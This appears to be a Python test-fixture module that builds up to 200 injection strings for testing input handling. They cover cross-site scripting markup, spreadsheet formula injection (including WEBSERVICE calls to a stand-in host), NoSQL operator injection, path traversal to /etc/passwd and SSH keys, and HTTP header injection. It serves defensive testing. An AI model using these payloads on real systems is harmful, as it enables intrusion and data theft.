"""Two hundred harmless texts that would do something if a page, a spreadsheet, a header or a query believed them.

Each that runs would open a dialog with its number, or ask a host that nobody has; tests trap both.
"""

from itertools import cycle, islice

NOWHERE = "https://nowhere.example"
CALL = "alert({number})"

_MARKUP = (
    "<script>{call}</script>",
    '"><script>{call}</script>',
    "'><script>{call}</script>",
    "</script><script>{call}</script>",
    "</textarea><script>{call}</script>",
    "</title><script>{call}</script>",
    "</pre></code><script>{call}</script>",
    "<ScRiPt >{call}</sCrIpT>",
    "<script/src={host}/{number}.js></script>",
    "<img src=x onerror={call}>",
    '<img src="{host}/{number}.png">',
    "<svg onload={call}>",
    "<svg><script>{call}</script></svg>",
    "<svg><animate onbegin={call} attributeName=x dur=1s>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror={call}>",
    "<body onload={call}>",
    "<iframe src=javascript:{call}></iframe>",
    '<iframe srcdoc="<script>{call}</script>"></iframe>',
    "<object data=javascript:{call}></object>",
    "<embed src=javascript:{call}>",
    "<base href={host}/>",
    '<meta http-equiv=refresh content="0;url={host}/{number}">',
    "<link rel=stylesheet href={host}/{number}.css>",
    "<style>@import '{host}/{number}.css';</style>",
    '<div style="background:url({host}/{number})">x</div>',
    "<a href=javascript:{call}>x</a>",
    "javascript:{call}",
    "data:text/html,<script>{call}</script>",
    "[x](javascript:{call})",
    "![x]({host}/{number}.png)",
    "<form action={host}><button>x</button></form>",
    '<input autofocus onfocus="{call}">',
    "<details open ontoggle={call}>x</details>",
    "<marquee onstart={call}>x</marquee>",
    "<video><source onerror={call}></video>",
    "<noscript><p title='</noscript><img src=x onerror={call}>'>",
    "<template><script>{call}</script></template>",
    "<!--><script>{call}</script>-->",
    "<![CDATA[<script>{call}</script>]]>",
    "&lt;script&gt;{call}&lt;/script&gt;",
    "&#60;script&#62;{call}&#60;/script&#62;",
    "\\u003cscript\\u003e{call}\\u003c/script\\u003e",
    "＜script＞{call}＜/script＞",
    "%3Cscript%3E{call}%3C/script%3E",
    "{{{{ {number} * 7 }}}} {{% if 1 %}}{call}{{% endif %}}",
    "${{{call}}} #{{{call}}} <%= {call} %>",
    '" onmouseover="{call}" autofocus onfocus="{call}" x="',
    "' accesskey='x' onclick='{call}' x='",
    "`${{{call}}}`",
    "x\x00<script>{call}</script>",
)
_BIDI = (
    "\u202e",
    "\u202d",
    "\u2066",
    "\u2067",
    "\u2068\u2069",
    "\u200f",
    "\u200b",
    "\u200c",
    "\ufeff",
    "\u2028",
    "\u00ad",
)
_FORMULAS = (
    '=HYPERLINK("{host}","x")',
    "=1+{number}",
    "+1+{number}",
    "-1+{number}",
    "@SUM(1,{number})",
    "\t=1+{number}",
    "\r=1+{number}",
    "\n=1+{number}",
    "  =1+{number}",
    "＝1+{number}",
    "＋1+{number}",
    "－1+{number}",
    "＠SUM(1)",
    '"=1+{number}',
    "\u200b=1+{number}",
    "\ufeff=1+{number}",
    '=WEBSERVICE("{host}/{number}")',
    "%0A=1+{number}",
)
_OPERATORS = (
    '{{"$ne": null}}',
    '{{"$gt": ""}}',
    "$where: sleep({number})",
    "[$ne]={number}",
    "$or",
    "a.$b.{number}",
    '{{"$regex": ".*"}}',
    "'; return true; var x='",
    "{{$expr: 1}}",
    "__proto__",
)
_PATHS = (
    "../../../../etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    "....//....//etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd",
    "file:///etc/passwd",
    "C:\\windows\\win.ini",
    "..%c0%af..%c0%afetc",
    "%2e%2e/%2e%2e/master.key",
    "master.key%00.png",
    "~/.ssh/id_{number}",
    "//nowhere.example/{number}",
    "/items/../people",
    "CON",
    "x" * 300,
)
_HEADERS = (
    "x\r\nSet-Cookie: a={number}",
    "x\nLocation: {host}",
    "x\r\n\r\n<script>{call}</script>",
    "x%0d%0aSet-Cookie: a={number}",
    "x\u560d\u560aSet-Cookie: a={number}",
    'x"; filename="../../x{number}.exe',
)


def payloads(most: int = 200) -> tuple[str, ...]:
    """So many, of every kind; those of markup come again behind more than 800 characters."""
    kinds = (*_MARKUP, *_FORMULAS, *_OPERATORS, *_PATHS, *_HEADERS)
    plain = [_filled(text, number) for number, text in enumerate(kinds)]
    turned = [mark + _filled(text, 300 + at) + mark for at, (mark, text) in enumerate(zip(cycle(_BIDI), _MARKUP[:33]))]
    long = [f"{'가나다 ' * 250}{_filled(text, 500 + at)}" for at, text in enumerate(_MARKUP)]
    huge = [f"{'긴 글 ' * 2_000}{_filled(text, 700 + at)}" for at, text in enumerate(_MARKUP)]
    return tuple(islice((*plain, *turned, *long, *huge), most))


def _filled(text: str, number: int) -> str:
    return text.format(call=CALL.format(number=number), host=NOWHERE, number=number)
